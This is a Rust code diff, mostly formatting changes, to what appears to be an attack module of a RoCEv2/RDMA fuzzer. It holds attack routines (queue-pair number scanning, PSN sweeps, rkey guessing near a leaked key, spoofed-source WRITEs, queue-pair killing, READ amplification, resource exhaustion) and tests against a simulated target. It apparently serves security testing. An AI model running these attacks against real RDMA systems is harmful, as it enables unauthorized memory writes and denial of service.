@@ -179,7 +179,11 @@ impl Attacker<'_> {
     /// expects only encodes it); None if the transport has no such
     /// operation.
     fn req(&self, op: Opcode, psn: u32) -> Option<PacketSpec> {
-        let base = if self.conn.qp_type == QpType::Uc { 0x20 } else { 0 };
+        let base = if self.conn.qp_type == QpType::Uc {
+            0x20
+        } else {
+            0
+        };
         let info = Opcode(op.0 | base).info()?;
         let rc = Opcode(op.0).info()?;
         if info.operation != rc.operation || info.position != rc.position {
@@ -330,7 +334,11 @@ fn qpn_scan(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
             a.send(&p);
             if !a.answers(SURE_US).is_empty() {
                 a.observe()?;
-                let hit = if c == a.conn.qpn { "" } else { " (not the fuzzed QP)" };
+                let hit = if c == a.conn.qpn {
+                    ""
+                } else {
+                    " (not the fuzzed QP)"
+                };
                 return Ok(Some(format!(
                     "QPN {c:#x} answers{hit}, found {} QPNs away from the attacker's",
                     own.abs_diff(c)
@@ -340,7 +348,9 @@ fn qpn_scan(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     }
     a.observe()?;
     let d = own.abs_diff(a.conn.qpn);
-    a.notes.push(format!("not found (the QP was {d} QPNs from the attacker's)"));
+    a.notes.push(format!(
+        "not found (the QP was {d} QPNs from the attacker's)"
+    ));
     Ok(None)
 }
 
@@ -389,7 +399,8 @@ fn psn_sweep(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
             return Ok(Some(format!("the WRITE landed at packet {n}{how}")));
         }
     }
-    Ok(a.landed()?.then(|| format!("the WRITE landed within {n} packets")))
+    Ok(a.landed()?
+        .then(|| format!("the WRITE landed within {n} packets")))
 }
 
 /// Guesses of a key near a leaked one: first neighbours at strides keys
@@ -426,6 +437,10 @@ fn rkey_guess(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
         .map_or("not among the first 65536 guesses".into(), |i| {
             format!("guess {}", i + 1)
         });
+    let right = format!(
+        "{right}; leaked {:#x}, right {:#x}",
+        a.conn.private_rkey, a.conn.rkey
+    );
     let mut psn = a.conn.rq_psn;
     let mut n = 0u64;
     let mut why = String::new();
@@ -454,7 +469,8 @@ fn rkey_guess(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     if a.landed()? {
         return Ok(Some(format!("the WRITE landed within {n} guesses")));
     }
-    a.notes.push(format!("{n} guesses{why} (the right key: {right})"));
+    a.notes
+        .push(format!("guesses: {n}{why} (the right key: {right})"));
     Ok(None)
 }
 
@@ -479,7 +495,12 @@ fn spoofed_source(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     }
     let _ = a.answers(PROBE_US);
     if a.landed()? {
-        return Ok(Some(format!("a WRITE from {src} landed: the source is not checked")));
+        let why = if src == a.conn.fuzzer {
+            "(the peer's own address: the raw path works)"
+        } else {
+            "the source is not checked"
+        };
+        return Ok(Some(format!("a WRITE from {src} landed: {why}")));
     }
     a.notes.push(format!("a WRITE from {src} did not land"));
     Ok(None)
@@ -547,7 +568,10 @@ fn qp_kill(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
         a.notes.push(survived);
         return Ok(None);
     }
-    Ok(Some(format!("killed by: {}; {survived}", killed.join("; "))))
+    Ok(Some(format!(
+        "killed by: {}; {survived}",
+        killed.join("; ")
+    )))
 }
 
 /// READ amplification: one READ request of the whole exposed region;
@@ -563,20 +587,32 @@ fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetErro
     a.send(&p);
     let sent = a.bytes_sent;
     let ans = a.answers(SURE_US);
-    let got: u64 = ans.iter().filter(|x| x.kind == "READ response").map(|x| x.bytes).sum();
+    let got: u64 = ans
+        .iter()
+        .filter(|x| x.kind == "READ response")
+        .map(|x| x.bytes)
+        .sum();
     let factor = got as f64 / sent.max(1) as f64;
     let over = a.read(psn.wrapping_add(len.div_ceil(mtu)) & 0xff_ffff, len + 1);
     if let Some(p) = over {
         a.send(&p);
     }
     let over_ans = a.answers(SURE_US);
-    let over_got: u64 = over_ans.iter().filter(|x| x.kind == "READ response").map(|x| x.bytes).sum();
+    let over_got: u64 = over_ans
+        .iter()
+        .filter(|x| x.kind == "READ response")
+        .map(|x| x.bytes)
+        .sum();
     a.observe()?;
     let text = format!(
         "READ of {len} B: {got} B answered for {sent} B sent, {factor:.0}x; READ of {} B: {}{}",
         len + 1,
         tally(&over_ans),
-        if over_got > 0 { " (answered past the region!)" } else { "" }
+        if over_got > 0 {
+            " (answered past the region!)"
+        } else {
+            ""
+        }
     );
     if factor > 10.0 || over_got > 0 {
         return Ok(Some(text));
@@ -614,9 +650,7 @@ fn exhaustion(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     }
     let ans_s = tally(&a.answers(SURE_US));
     let o = a.observe()?;
-    let text = format!(
-        "{reads} READs: {ans_r}; {sends} SENDs on {RECVS} receives: {ans_s}"
-    );
+    let text = format!("{reads} READs: {ans_r}; {sends} SENDs on {RECVS} receives: {ans_s}");
     if !o.alive || !o.control_ok {
         return Ok(Some(format!("{text}; the control QP broke")));
     }
@@ -647,8 +681,12 @@ pub fn run_one(
         noticed: BTreeSet::new(),
         notes: Vec::new(),
     };
-    let goal = catch_unwind(AssertUnwindSafe(|| attack(&mut a)))
-        .unwrap_or_else(|p| Ok(Some(format!("the target panicked: {}", super::panic_text(&*p)))))?;
+    let goal = catch_unwind(AssertUnwindSafe(|| attack(&mut a))).unwrap_or_else(|p| {
+        Ok(Some(format!(
+            "the target panicked: {}",
+            super::panic_text(&*p)
+        )))
+    })?;
     let verdict = match &goal {
         Some(_) => Verdict::Succeeded,
         None if !a.noticed.is_empty() => Verdict::Detected,
@@ -733,7 +771,11 @@ mod tests {
         assert!(rc[0].detail.contains("QPN 0x111 answers,"), "{:?}", rc[0]);
         assert_eq!(rc[1].packets, 2, "{:?}", rc[1]);
         assert_eq!(rc[2].packets, 1, "{:?}", rc[2]);
-        assert!(rc[4].detail.contains("survived: reserved opcode"), "{:?}", rc[4]);
+        assert!(
+            rc[4].detail.contains("survived: reserved opcode"),
+            "{:?}",
+            rc[4]
+        );
         let uc = attacks(&mut SimTarget::new(1, None), QpType::Uc);
         assert_eq!(
             verdicts(&uc),
@@ -814,12 +856,18 @@ mod tests {
         let cfg = AttackConfig::default();
         let which = ["rkey-guess", "exhaustion"];
         let r = run(&mut t, &cfg, &which, |_| {}).expect("runs");
-        assert_eq!(verdicts(&r), [("rkey-guess", Succeeded), ("exhaustion", Succeeded)]);
+        assert_eq!(
+            verdicts(&r),
+            [("rkey-guess", Succeeded), ("exhaustion", Succeeded)]
+        );
         assert_eq!(r[0].packets, 1, "{:?}", r[0]);
         // Keys laid out as rxe's (index << 8 | a random byte): a key two
         // indexes up is within 1024 guesses.
         let g: Vec<u32> = rkey_guesses(0x1234_5607).take(1024).collect();
-        assert!(g.contains(&0x1234_5833) && g.contains(&0x1234_55ff), "{g:x?}");
+        assert!(
+            g.contains(&0x1234_5833) && g.contains(&0x1234_55ff),
+            "{g:x?}"
+        );
         assert_eq!(g.len(), g.iter().collect::<BTreeSet<_>>().len());
         let uc = AttackConfig {
             qp_type: QpType::Uc,
@@ -856,11 +904,17 @@ mod tests {
             panic!("v4")
         };
         let d = crate::fuzz::live::spoofed_datagram(src, dst, &bytes).expect("builds");
-        assert_eq!((d[0], d[6], d[4], d[5], d[8], d[9]), (0x45, 0x40, 0, 0, 64, 17));
+        assert_eq!(
+            (d[0], d[6], d[4], d[5], d[8], d[9]),
+            (0x45, 0x40, 0, 0, 64, 17)
+        );
         assert_eq!(&d[20..24], &[0x12, 0xb7, 0x12, 0xb7]);
         assert_eq!(&d[26..28], &[0, 0]);
-        let f = parse_frame(LinkType::RawIp, &d).expect("parses").expect("RoCEv2");
-        f.verify_icrc().expect("the ICRC is right for the spoofed header");
+        let f = parse_frame(LinkType::RawIp, &d)
+            .expect("parses")
+            .expect("RoCEv2");
+        f.verify_icrc()
+            .expect("the ICRC is right for the spoofed header");
         // From the real peer's address the same bytes do not verify.
         assert!(uroce_wire::icrc::verify(&conn.ip_context(), &bytes).is_err());
     }
